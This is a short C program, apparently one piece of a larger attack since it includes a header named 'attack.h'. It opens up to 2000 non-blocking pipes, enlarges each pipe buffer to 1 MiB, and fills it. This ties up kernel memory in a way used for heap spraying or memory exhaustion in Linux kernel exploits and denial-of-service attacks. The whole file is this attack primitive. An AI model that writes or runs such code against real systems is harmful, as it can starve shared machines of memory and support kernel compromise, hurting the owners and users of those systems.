#include "attack.h"

int main(void) {
  int n = 0;
  char *b = calloc(1, 1 << 20);
  for (; n < 2000; n++) { int p[2]; if (pipe2(p, O_NONBLOCK)) break; fcntl(p[1], F_SETPIPE_SZ, 1 << 20); write(p[1], b, 1 << 20); }
  printf("pipes %d\n", n);
}
